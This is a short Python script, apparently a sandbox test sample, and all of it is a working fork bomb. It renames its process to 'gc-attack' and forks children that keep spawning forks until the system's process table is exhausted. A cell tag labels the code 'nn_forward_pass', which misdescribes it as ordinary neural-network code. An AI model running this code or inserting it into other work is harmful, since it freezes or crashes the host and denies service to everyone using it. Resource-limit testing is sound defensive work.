"""Processes start processes until there is no room for another one."""

# %% nn_forward_pass
import os
import time

open("/proc/self/comm", "w").write("gc-attack")
for _ in range(500):
    try:
        if os.fork() == 0:
            while True:
                try:
                    if os.fork() == 0:
                        time.sleep(0.01)
                except OSError:
                    time.sleep(0.05)
    except OSError:
        break
